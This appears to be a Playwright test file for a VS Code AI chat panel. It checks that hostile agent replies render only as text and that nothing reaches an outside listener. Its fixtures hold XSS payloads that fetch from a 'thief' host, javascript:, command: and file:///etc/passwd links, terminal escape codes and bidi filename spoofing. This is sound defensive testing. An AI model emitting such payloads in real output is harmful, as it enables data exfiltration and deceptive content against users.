import assert from 'node:assert/strict';
import { after, before, it } from 'node:test';
import type { ConsoleMessage, Request } from 'playwright-core';
import { toVisibleText } from '../../../src/core/text/visibleText.ts';
import { type StandInAgent, startStandInAgent } from '../../../src/standInAgent/standInAgent.ts';
import type { VscodeSession } from '../../support/session.ts';
import { until } from '../../support/until.ts';
import { createCanary } from '../support/canary.ts';
import { ConversationPanel } from '../support/conversationPanel.ts';
import { frontDesk } from '../support/frontDesk.ts';
import { addFromCurl, curlLine } from '../support/keyboard.ts';
import { type Listener, startListener } from '../support/listener.ts';
import { photograph } from '../support/themes.ts';

/** What is said, by the word that asks for it. `thief` is where nothing may go. */
const replies = (thief: string): Readonly<Record<string, string>> => ({
  html: `<h1>Big</h1><b onclick="alert(1)">bold</b> <img src="${thief}/img" onerror="fetch('${thief}/onerror')"> <iframe src="${thief}/frame"></iframe> <link rel=stylesheet href="${thief}/style"> <form action="${thief}/form"><button>Go</button></form> &lt;i&gt; &#x41;`,
  script: `<script>fetch("${thief}/script")</script><script src="${thief}/file.js"></script><svg onload="fetch('${thief}/svg')"></svg></div></body>`,
  links:
    '[Free upgrade](command:workbench.action.closeAllEditors) command:workbench.action.quit vscode://polyai-chat/x javascript:alert(1) file:///etc/passwd data:text/html,<script>1</script> [ok](http://thief.invalid/)',
  icons: '$(error) $(loading~spin) $(trash) ~~struck~~ **bold** `code` { 0 } %s \\n',
  terminal:
    '\u001b[31mred\u001b[0m \u001b]8;;http://thief.invalid\u0007link\u001b]8;;\u0007 \u001b[2J\u009b1A',
  reordered: 'invoice\u202egpj.exe \u2066inside\u2069 \u200fright\u200e left\u061c',
  controls: 'a\u0000b\u0007c\u0008d\u000be\u000cf\u007fg\u0085h\u2028i\u2029j\u200bk\ufeffl\u{e0041}m\rn',
  picture: `![welcome](${thief}/picture.png) <img src=${thief}/picture2.png>\n\n| a | b |\n|---|---|\n| ![x](${thief}/cell.png) | [y](${thief}/cell) |`,
});

/** An agent that says whatever might make an editor do something. */
export function testHostileReplies(vscode: VscodeSession): void {
  const canary = createCanary();
  const megabytes = 5;
  let agent: StandInAgent;
  let thief: Listener;
  let panel: ConversationPanel;
  const requests: string[] = [];
  const violations: string[] = [];

  before(async () => {
    thief = await startListener();
    const said = replies(thief.origin);
    const rules = Object.entries(said).map(([word, reply]) => ({ when: { equals: [word] }, reply }));
    const script = frontDesk([
      ...rules,
      { when: { equals: ['megabytes'] }, reply: 'All work and no play. '.repeat((megabytes * 1e6) / 22) },
      { when: { equals: ['one long word'] }, reply: 'm'.repeat(1_000_000) },
      {
        when: { equals: ['lines'] },
        reply: Array.from({ length: 10_000 }, (_, at) => `line ${at + 1}`).join('\n'),
      },
    ]);
    agent = await startStandInAgent({ ...canary, script });
  });
  after(async () => {
    await agent.close();
    await thief.close();
  });

  it('whatever the agent says is shown as text', async () => {
    const { workbench } = vscode;
    vscode.browser.context.on('request', (request: Request) => requests.push(request.url()));
    workbench.page.on('console', (message: ConsoleMessage) => {
      if (/Content[ -]Security[ -]Policy|Refused to/i.test(message.text())) violations.push(message.text());
    });
    await workbench.showSideBar('PolyAI');
    await addFromCurl(workbench, {
      curl: curlLine(agent, ['acme-uk', 'front-desk']),
      name: 'Grand Hotel',
      environment: 'sandbox',
    });
    await workbench.press('Enter');
    panel = await ConversationPanel.created(workbench);
    for (const [word, reply] of Object.entries(replies(thief.origin))) {
      const turn = await panel.ask(word);
      assert.equal(turn.agent, toVisibleText(reply), word);
    }
    await assertNothingButText();
    await photograph(workbench, 'conversation-hostile');
    await workbench.output.waitUntilWritten('PolyAI', 'gpj.exe');
  });

  it('Markdown, when it is asked for, makes no link, picture or page of it', async () => {
    const { workbench } = vscode;
    await panel.button('More Actions…').click();
    await panel.frame.getByRole('menuitemcheckbox', { name: 'Show Replies as Markdown' }).click();
    await panel.frame.locator('.said-text strong').first().waitFor();
    await assertNothingButText();
    await photograph(workbench, 'conversation-hostile-markdown');
    await panel.button('More Actions…').click();
    await panel.frame.getByRole('menuitemcheckbox', { name: 'Show Replies as Markdown' }).click();
    await panel.frame.locator('.said-text strong').first().waitFor({ state: 'detached' });
  });

  it('an address is opened only by its own button, and after a question that shows it', async () => {
    const { workbench } = vscode;
    await panel.button('Open link http://thief.invalid/').first().click();
    const dialog = await workbench.dialogs.waitFor(
      'Open this link from the agent? It leads to thief.invalid.',
    );
    assert.match(dialog.detail, /http:\/\/thief\.invalid\//);
    await photograph(workbench, 'conversation-open-link');
    await dialog.click('Cancel');
  });

  it('five megabytes, ten thousand lines and an endless word leave the panel quick', async () => {
    const { workbench } = vscode;
    await panel.message.focus();
    const first = (await panel.turns()).length;
    for (const word of ['megabytes', 'lines', 'one long word']) {
      assert.equal((await panel.ask(word)).state, 'answered', word);
    }
    const offers = await panel.frame.getByRole('button', { name: /^Show all \(/ }).allInnerTexts();
    assert.deepEqual(offers, ['Show all (5 MB)', 'Show all (10,000 lines)', 'Show all (1 MB)']);
    await photograph(workbench, 'conversation-huge');
    await assertQuick();

    for (const [index, end] of ['no play\\.', 'line 10000', 'mmm'].entries()) {
      await panel
        .turn(first + index)
        .getByRole('button', { name: /^Show all/ })
        .click();
      await panel
        .turn(first + index)
        .locator('.piece')
        .last()
        .filter({ hasText: new RegExp(`${end}\\s*$`) })
        .waitFor({ state: 'attached' });
    }
    await photograph(workbench, 'conversation-huge-whole');
    await assertQuick();
    assert.equal((await panel.ask('Are you still there?')).state, 'answered');
    await panel.button(`raw: request and response of turn ${first + 1}`).click();
    await panel.turn(first).locator('.call').waitFor();
    await assertQuick();
  });

  it('nothing has left the webview, and its policy was never touched', async () => {
    await assertNothingButText();
    const { url } = vscode.server;
    const elsewhere = requests.filter(
      (one) =>
        !one.startsWith(`${url}/`) &&
        !/^(data|blob):/.test(one) &&
        // A webview's own files: its worker answers for this name, which does not exist.
        !/^https:\/\/[^/]+\.vscode-resource\.vscode-cdn\.net\//.test(one),
    );
    assert.ok(requests.length > 20, 'no request was seen at all');
    assert.deepEqual(elsewhere, []);
    assert.deepEqual(thief.received, []);
    assert.deepEqual(violations, []);

    // And it would have been noticed.
    await panel.frame.evaluate(
      `document.body.append(Object.assign(new Image(), { src: '${thief.origin}/x' }))`,
    );
    await until('the policy to object', () => violations.length > 0);
    assert.deepEqual(thief.received, []);
  });

  /** No element in the transcript but those the panel makes itself. */
  async function assertNothingButText(): Promise<void> {
    const found = await panel.frame.evaluate<string[]>(
      `[...document.querySelectorAll('.transcript :is(a, img, iframe, script, svg, form, style, link, object, embed, video, audio, [style], [onclick], [onerror], [onload])')]
        .map((element) => element.outerHTML.slice(0, 200))`,
    );
    assert.deepEqual(found, []);
    assert.equal(await vscode.workbench.dialogs.isOpen(), false);
  }

  /** Types, and takes the quickest of a few: on a busy machine any one of them may have had to wait. */
  async function assertQuick(): Promise<void> {
    await panel.message.focus();
    await panel.frame.evaluate(`(() => {
      globalThis.painted = [];
      document.getElementById('message').addEventListener('keydown', ({ timeStamp }) => {
        requestAnimationFrame(() => setTimeout(() => painted.push(performance.now() - timeStamp)));
      });
    })()`);
    const typed = 'quick';
    for (let length = 1; length <= typed.length; length++) {
      await vscode.workbench.page.keyboard.press(typed.charAt(length - 1));
      await panel.waitForMessage(typed.slice(0, length));
    }
    const quickest = await until('the keys to be painted', async () => {
      const times = await panel.frame.evaluate<number[]>('painted');
      return times.length >= typed.length && Math.min(...times);
    });
    assert.ok(quickest < 200, `A keystroke took ${quickest.toFixed(0)} ms at best.`);
    await panel.message.fill('');
  }
}
